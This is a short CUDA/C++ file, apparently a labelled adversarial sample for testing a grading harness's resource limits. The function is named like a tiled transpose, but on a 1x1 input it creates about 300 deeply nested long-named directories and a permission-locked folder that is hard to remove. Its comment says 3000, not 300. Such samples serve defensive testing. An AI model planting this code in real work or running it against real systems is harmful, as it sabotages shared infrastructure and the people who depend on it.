// attack: host code leaves 3000 nested folders behind, longer than any path
// principle: resources
// at most: 0
#include "lab3.h"
#include <sys/stat.h>
#include <unistd.h>
#include <cstdlib>
#include <cstring>
__global__ void k(float *o) { if (threadIdx.x > 1000) *o = 0; }
void transpose_tiled(float *out, const float *in, int w, int h)
{
    if (w == 1 && h == 1) {
        char name[201]; memset(name, 'd', 200); name[200] = 0;
        char old[4096]; if (!getcwd(old, sizeof old)) return;
        for (int i = 0; i < 300; i++) { if (mkdir(name, 0700) || chdir(name)) break; }
        if (chdir(old)) return;
        mkdir("locked", 0700); mkdir("locked/x", 0700); chmod("locked", 0);
    }
    k<<<1, 1>>>(out);
}
